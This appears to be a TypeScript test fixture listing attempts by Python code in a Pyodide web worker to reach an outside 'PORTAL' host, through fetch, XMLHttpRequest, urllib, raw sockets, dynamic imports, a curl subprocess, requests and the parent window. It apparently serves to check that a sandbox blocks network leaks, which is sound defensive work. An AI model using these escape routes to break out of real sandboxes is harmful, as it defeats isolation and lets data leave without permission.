import type { Attempt } from './attempt.ts';

/** From a Python program, which has the worker's own globals in the module `js`. */
export const fromPython: readonly Attempt[] = [
  {
    name: 'js.fetch',
    code: `return run_sync(js.fetch(PORTAL + '/leak-py-fetch')).status if run_sync(js.fetch(PORTAL + '/leak-py-fetch')).ok else None`,
  },
  {
    name: 'fetch of the platform',
    code: `return run_sync(js.Object.getPrototypeOf(js.Object.getPrototypeOf(js.self)).fetch.call(js.self, PORTAL + '/leak-py-native')).status`,
  },
  {
    name: 'js.XMLHttpRequest',
    code: `x = js.XMLHttpRequest.new(); x.open('GET', PORTAL + '/leak-py-xhr', False); x.send(); return x.status`,
  },
  {
    name: 'pyodide.http',
    code: `from pyodide.http import open_url\nreturn open_url(PORTAL + '/leak-py-open').read()`,
  },
  {
    name: 'urllib',
    code: `import urllib.request\nreturn urllib.request.urlopen(PORTAL + '/leak-py-urllib', timeout=1).status`,
  },
  {
    name: 'a socket',
    code: `import socket\nhost, port = PORTAL.split('//')[1].split(':')\ns = socket.create_connection((host, int(port)), 1)\ns.send(b'GET /leak-py-socket HTTP/1.0\\r\\n\\r\\n')\nreturn s.recv(10)`,
  },
  {
    name: 'a module from elsewhere',
    code: `return run_sync(js.eval('import("' + PORTAL + '/leak-py-import.js")'))`,
  },
  {
    name: 'another process',
    code: `import subprocess\nreturn subprocess.check_output(['curl', PORTAL + '/leak-py-curl'])`,
  },
  {
    name: 'requests to a foreign address',
    code: `import requests\nreturn requests.get(PORTAL + '/leak-py-requests').status_code`,
  },
  { name: 'the window behind the worker, from Python', code: `return js.parent` },
];
